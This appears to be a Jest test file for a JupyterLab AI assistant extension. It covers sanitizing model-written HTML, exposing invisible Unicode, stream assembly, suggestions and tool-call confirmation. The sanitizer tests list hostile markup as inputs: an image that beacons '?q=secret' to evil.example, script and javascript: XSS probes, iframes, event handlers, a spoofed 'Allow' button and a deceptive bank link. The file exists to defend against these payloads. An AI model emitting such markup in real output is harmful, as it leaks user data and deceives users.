// Texts of models: what of them is let through, and what is made visible.

import { nullTranslator } from '@jupyterlab/translation';

import { LiveTexts } from '../livetext';
import { ModelSanitizer } from '../sanitizer';
import { mentionable, questions, wordAt } from '../suggestions';
import { argumentsOf, mayBeAlways } from '../toolwords';
import { piecesOf } from '../visible';

const trans = nullTranslator.load('');

describe('what a model says', () => {
  const sanitizer = new ModelSanitizer(alt => `[picture: ${alt}]`);
  const clean = (html: string): string => sanitizer.sanitize(html);

  it.each([
    [
      '<img src="https://evil.example/?q=secret" alt="a cat">',
      '[picture: a cat]'
    ],
    ['<p style="background:url(//evil.example)">a</p>', '<p>a</p>'],
    ['<video poster="https://evil.example/p"></video>b', '[picture: ]b'],
    ['<svg><image href="https://evil.example"/></svg>c', '[picture: ]c'],
    ['<script>alert(1)</script>d', 'd'],
    ['<iframe src="https://evil.example">x</iframe>e', 'e'],
    ['<p onclick="alert(1)" id="main">f</p>', '<p>f</p>'],
    ['<input type="text" name="key">g', 'g'],
    ['<a href="javascript:alert(1)">h</a>', 'h'],
    ['<button class="jp-mod-accept">Allow</button>', 'Allow'],
    ['<em class="jp-Dialog lm-Widget">i</em>', '<em>i</em>'],
    ['<audio src="https://evil.example/a"></audio>j', 'j']
  ])('loads and runs nothing: %s', (html, expected) => {
    expect(clean(html)).toBe(expected);
  });

  it('keeps the structure of a text', () => {
    const html =
      '<h2>T</h2><ul><li>a <code>b</code></li></ul><table><tbody><tr><td>1</td></tr></tbody></table>';
    expect(clean(html)).toBe(html);
  });

  it('has the links that were meant, and says where they lead', () => {
    expect(clean('<a href="https://a.example/x">a.example/x</a>')).toBe(
      'a.example/x'
    );
    const link = clean('<a href="https://evil.example/">your bank</a>');
    expect(link).toContain('title="https://evil.example/"');
    expect(link).toContain('href="https://evil.example/"');
  });
});

describe('what is not seen', () => {
  it('shows by its number', () => {
    expect(piecesOf('a\u202eb\u200b\u{e0041}c\td\n')).toEqual([
      { text: 'a', isUnseen: false },
      { text: 'U+202E', isUnseen: true },
      { text: 'b', isUnseen: false },
      { text: 'U+200B', isUnseen: true },
      { text: 'U+E0041', isUnseen: true },
      { text: 'c\td\n', isUnseen: false }
    ]);
    expect(piecesOf('plain ✓ 漢 🎉')).toHaveLength(1);
  });
});

describe('the stream', () => {
  it('comes together from pieces, also when all of it is sent again', () => {
    const live = new LiveTexts();
    const take = (offset: number, text: string, step = 1, thinking = false) =>
      live.take({ run_id: 'r', step, thinking, offset, text });
    take(0, 'Hi 🎉');
    take(4, ' you');
    take(0, 'hmm', 1, true);
    expect(live.of('r', 1)).toMatchObject({
      text: 'Hi 🎉 you',
      thinking: 'hmm'
    });
    take(0, 'Hi 🎉 you all');
    take(4, '!');
    expect(live.of('r', 1).text).toBe('Hi 🎉!');
    expect(live.of('r', 2).text).toBe('');
    take(0, 'next', 2);
    expect(live.of('r', 2)).toMatchObject({ text: 'next', thinking: '' });
    expect(live.of('r', 1).text).toBe('');
  });
});

describe('suggestions', () => {
  it('are asked for by @ anywhere and by / at the beginning', () => {
    expect(wordAt('see @ce', 7)).toEqual({ sign: '@', word: 'ce', start: 4 });
    expect(wordAt('/fi', 3)).toEqual({ sign: '/', word: 'fi', start: 0 });
    expect([wordAt('a /fi', 5), wordAt('a@b', 3), wordAt('@a b', 4)]).toEqual([
      null,
      null,
      null
    ]);
  });

  it('find cells by their text and files by their name', () => {
    const cells = ['import pandas', 'load(data)'].map((source, index) => ({
      id: `c${index}`,
      getSource: () => source
    }));
    const found = mentionable(
      'DATA',
      { cells } as never,
      ['data.csv', 'notes.md'],
      trans
    );
    expect(found.map(({ mention }) => mention)).toEqual([
      { cell_id: 'c1' },
      { path: 'data.csv' }
    ]);
  });

  it('are about the active cell', () => {
    const [fix] = questions('fi', 'c1', trans);
    expect(fix).toMatchObject({ label: '/fix', mention: { cell_id: 'c1' } });
    expect(questions('summary', 'c1', trans)[0]?.mention).toBeNull();
  });
});

describe('calls of tools', () => {
  it('show all of their arguments, however they are told', () => {
    const rows = [
      ['cell_id', 'c1'],
      ['at', '2']
    ];
    expect(argumentsOf('{"cell_id":"c1","at":2}')).toEqual(rows);
    expect(argumentsOf({ cell_id: 'c1', at: 2 })).toEqual(rows);
    expect(argumentsOf('{broken')).toEqual([['', '{broken']]);
  });

  it('are asked each time when they destroy something', () => {
    const tools = ['execute_cell', 'delete_cell', 'restart_kernel'];
    expect(tools.map(mayBeAlways)).toEqual([true, false, false]);
  });
});
